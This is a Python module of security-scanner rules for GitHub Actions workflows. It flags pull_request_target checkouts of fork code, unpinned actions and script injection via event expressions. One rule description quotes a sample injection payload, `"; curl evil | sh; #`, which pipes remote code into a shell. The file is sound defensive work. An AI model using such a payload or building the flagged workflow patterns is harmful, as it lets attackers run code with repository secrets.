"""GitHub Actions: untrusted pull-request code with privileged triggers, unpinned third-party
actions, and script injection through `${{ github.event.* }}`.

Token permissions are MLC-GHA-003 (rego/github/permissions.rego)."""

from __future__ import annotations

import re
from collections.abc import Iterable

from scanner.context import ScanContext
from scanner.documents import Document
from scanner.findings import Hit
from scanner.github import workflow as gha
from scanner.pyrules import PythonRule

_PRIVILEGED_TRIGGERS = {"pull_request_target", "workflow_run"}
# Expressions that name the pull request's (attacker-controlled) head.
_PR_HEAD = re.compile(
    r"pull_request\.head\.(sha|ref)|github\.head_ref|workflow_run\.head_(sha|branch)|refs/pull/|"
    r"merge_commit_sha"
)
_PR_CHECKOUT_CMD = re.compile(r"gh\s+pr\s+checkout|git\s+fetch\s+\S+\s+(\+?refs/)?pull/")
_FULL_SHA = re.compile(r"@[0-9a-f]{40}$")
# github.event fields that hold numbers, ids, hashes, booleans or enums GitHub itself sets, never
# free text: the webhook payload schemas type them integer, boolean or a closed enum (zizmor's
# context capabilities call them "fixed"). `pull_request.head.repo.fork` is a boolean, so
# `if [ "${{ github.event.pull_request.head.repo.fork }}" = true ]` injects nothing.
_SAFE_EVENT_FIELD = re.compile(
    r"\.(number|id|[a-z_]+_id|sha|[a-z_]+_sha|run_number|run_attempt|[a-z_]+_at"
    r"|[a-z_]+_count|has_[a-z_]+|allow_[a-z_]+|is_[a-z_]+|[a-z_]+_enforcement_level"
    r"|fork|private|public|draft|merged|mergeable|rebaseable|locked|archived|disabled|deleted"
    r"|site_admin|prerelease|forced|distinct|protected|verified|maintainer_can_modify"
    r"|delete_branch_on_merge|web_commit_signoff_required"
    r"|additions|deletions|changed_files|commits|comments|review_comments|size|forks|watchers"
    r"|open_issues|stargazers|line|start_line|original_line|position|original_position|duration"
    r"|action|author_association|state|conclusion|ref_type|visibility)$"
)


class PrivilegedTriggerChecksOutPr(PythonRule):
    id = "MLC-GHA-001"
    title = "pull_request_target / workflow_run checks out pull request code"
    severity = "high"
    category = "supply-chain"
    nist_ai_rmf = ("MEASURE 2.7", "GOVERN 6.1", "MANAGE 3.1")
    atlas = ("AML.T0010.001", "AML.T0055")
    description = (
        "A workflow triggered by `pull_request_target` or `workflow_run` runs with the base "
        "repository's secrets and a write token, and it checks out the pull request's head. Any "
        "build script, test or dependency file in a fork's pull request then runs with those "
        'privileges (a "pwn request").'
    )
    remediation = (
        "Build untrusted code under the `pull_request` trigger (no secrets); if results must be "
        "published, pass them as artifacts to a separate `workflow_run` job that never checks "
        "out or executes the pull request's files."
    )
    input_kinds = ("github-workflow",)
    references = ("https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/",)

    def check(self, doc: Document, ctx: ScanContext) -> Iterable[Hit]:
        trigger = sorted(gha.triggers(doc.data) & _PRIVILEGED_TRIGGERS)
        if not trigger:
            return
        for _, step, pointer in gha.steps(doc.data):
            action = str(step.get("uses", ""))
            ref = step.get("with", {}).get("ref", "") if isinstance(step.get("with"), dict) else ""
            run = str(step.get("run") or "")
            checks_out_head = action.startswith("actions/checkout@") and _PR_HEAD.search(str(ref))
            if checks_out_head or _PR_CHECKOUT_CMD.search(run):
                yield Hit(f"{trigger[0]} workflow checks out the pull request's code", pointer=pointer)


class ActionNotPinned(PythonRule):
    id = "MLC-GHA-002"
    title = "Third-party action not pinned to a commit SHA"
    severity = "medium"
    category = "supply-chain"
    nist_ai_rmf = ("GOVERN 6.1", "MANAGE 3.1", "MAP 4.1")
    atlas = ("AML.T0010.001",)
    description = (
        "A step or reusable workflow uses a third-party action by tag or branch. Tags and branches "
        "move: whoever controls the action's repository can change the code that runs with this "
        "workflow's secrets and token (as in the tj-actions/changed-files compromise)."
    )
    remediation = (
        "Pin to the full 40-character commit SHA, keeping the tag as a comment "
        "(`uses: owner/action@<sha> # v4.2.0`), and let Dependabot or Renovate update the pin. "
        "Trusted owners are set by the rule option `trusted_owners` (default: actions, github)."
    )
    input_kinds = ("github-workflow",)
    references = (
        "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#using-third-party-actions",
    )

    def check(self, doc: Document, ctx: ScanContext) -> Iterable[Hit]:
        trusted = {str(o).lower() for o in ctx.option(self.id, "trusted_owners", ["actions", "github"])}
        for ref, pointer in gha.uses(doc.data):
            if ref.startswith("./") or _FULL_SHA.search(ref):
                continue
            if ref.startswith("docker://"):
                if "@sha256:" not in ref:
                    yield Hit(f"container action {ref!r} is not pinned by digest", pointer=pointer)
                continue
            if ref.split("/", 1)[0].lower() in trusted:
                continue
            # A job's own `uses:` calls a reusable workflow (with the secrets it passes), not an action.
            what = "reusable workflow" if len(pointer) == 3 else "action"
            yield Hit(f"{what} {ref!r} is not pinned to a full commit SHA", pointer=pointer)


class FirstPartyActionOnTag(PythonRule):
    id = "MLC-GHA-005"
    title = "First-party action on a movable tag"
    severity = "low"
    category = "supply-chain"
    nist_ai_rmf = ("GOVERN 6.1", "MANAGE 3.1", "MAP 4.1")
    atlas = ("AML.T0010.001",)
    description = (
        "A step uses a GitHub-maintained action (owner `actions` or `github`: `actions/checkout@v4`, "
        "`github/codeql-action/init@main`) by tag or branch rather than by commit SHA. Where the "
        "line is drawn: third-party actions on a tag are MLC-GHA-002 (medium); first-party ones "
        "are this rule, at low, because GitHub itself controls their tags and a compromise of its "
        "own release process is far less likely than a third party's, but a tag still moves (as "
        "zizmor's pedantic mode and OpenSSF Scorecard's Pinned-Dependencies check report). Every "
        "ref that is not a full 40-character commit SHA counts: a major tag (`@v4`), a release tag "
        "(`@v4.2.2`, which can be re-pointed) and a branch (`@main`). Local actions (`./...`) and "
        "container actions (MLC-GHA-002) are not this rule's. The owners are the rule option "
        "`first_party_owners` (default: actions, github)."
    )
    remediation = (
        "Pin to the full commit SHA with the tag as a comment (`uses: actions/checkout@<sha> # v4.2.2`) "
        "and let Dependabot or Renovate keep it current; or suppress this rule if your policy "
        "trusts GitHub's own tags."
    )
    input_kinds = ("github-workflow",)
    references = (
        "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#using-third-party-actions",
        "https://github.com/ossf/scorecard/blob/main/docs/checks.md#pinned-dependencies",
    )

    def check(self, doc: Document, ctx: ScanContext) -> Iterable[Hit]:
        owners = {str(o).lower() for o in ctx.option(self.id, "first_party_owners", ["actions", "github"])}
        for ref, pointer in gha.uses(doc.data):
            if ref.startswith(("./", "docker://")) or _FULL_SHA.search(ref) or "@" not in ref:
                continue
            if ref.split("/", 1)[0].lower() in owners:
                yield Hit(
                    f"first-party action {ref!r} is used by a movable tag or branch, not a commit SHA", pointer=pointer
                )


class ScriptInjection(PythonRule):
    id = "MLC-GHA-004"
    title = "Untrusted event data interpolated into a script"
    severity = "high"
    category = "supply-chain"
    nist_ai_rmf = ("MEASURE 2.7", "GOVERN 6.1")
    atlas = ("AML.T0010.001", "AML.T0050")
    description = (
        "A `run:` script (or an `actions/github-script` script) interpolates `${{ github.event.* }}` "
        "or `${{ github.head_ref }}`. The expression is pasted into the script before the shell "
        'sees it, so a pull request title, branch name or comment like `"; curl evil | sh; #` '
        "runs as code with the workflow's secrets."
    )
    remediation = (
        "Pass the value through an environment variable (`env: TITLE: ${{ github.event.pull_request."
        'title }}`) and use `"$TITLE"` in the script.'
    )
    input_kinds = ("github-workflow",)
    references = (
        "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections",
    )

    def check(self, doc: Document, ctx: ScanContext) -> Iterable[Hit]:
        for _, step, pointer in gha.steps(doc.data):
            scripts = [("run", step.get("run"))]
            if str(step.get("uses", "")).startswith("actions/github-script@") and isinstance(step.get("with"), dict):
                scripts.append(("with/script", step["with"].get("script")))
            for field, script in scripts:
                if not isinstance(script, str):
                    continue
                bad = sorted({e for e in gha.expressions(script) if _untrusted(e)})
                if not bad:
                    continue
                where = (*pointer, *field.split("/"))
                message = f"{field} interpolates untrusted {', '.join(bad)}"
                if all(_MAINTAINER_SET.search(n) for e in bad for n in _untrusted(e)):
                    yield Hit(message, pointer=where, severity="low", severity_reason=_MAINTAINER_REASON)
                else:
                    yield Hit(message, pointer=where)


# `commits` is a number in a pull_request payload but the list of commits (messages, author
# names) in a push payload.
_FREE_TEXT = {"github.head_ref", "github.event.commits"}
# Free text only people with write access to this repository set: the base branch of a pull
# request, a release's tag and name, the repository's own settings, and the inputs of a
# workflow_dispatch (only a caller with write access can dispatch a workflow; no other event's
# payload has `inputs`, and the same values as `${{ inputs.x }}` are not this rule's at all).
# A fork's author sets none of them.
_MAINTAINER_SET = re.compile(
    r"^github\.event\.(pull_request\.base\.(ref|label|repo\.[\w.]+)|release\.(tag_name|name)|repository\.[\w.]+"
    r"|inputs\.[\w\-]+)$"
)
_MAINTAINER_REASON = (
    "only people with write access set these values (a pull request's base branch, a release tag, "
    "a workflow_dispatch input, the repository's settings); still pass them through env"
)


def _untrusted(expr: str) -> list[str]:
    """The event contexts in `expr` that may hold free text; [] when there are none."""
    names = re.findall(r"github\.(?:event\b(?:\.[\w.*\-\[\]'\"]+)?|head_ref\b)", expr)
    return [n for n in names if n in _FREE_TEXT or not _SAFE_EVENT_FIELD.search(n)]


RULES = [PrivilegedTriggerChecksOutPr, ActionNotPinned, FirstPartyActionOnTag, ScriptInjection]
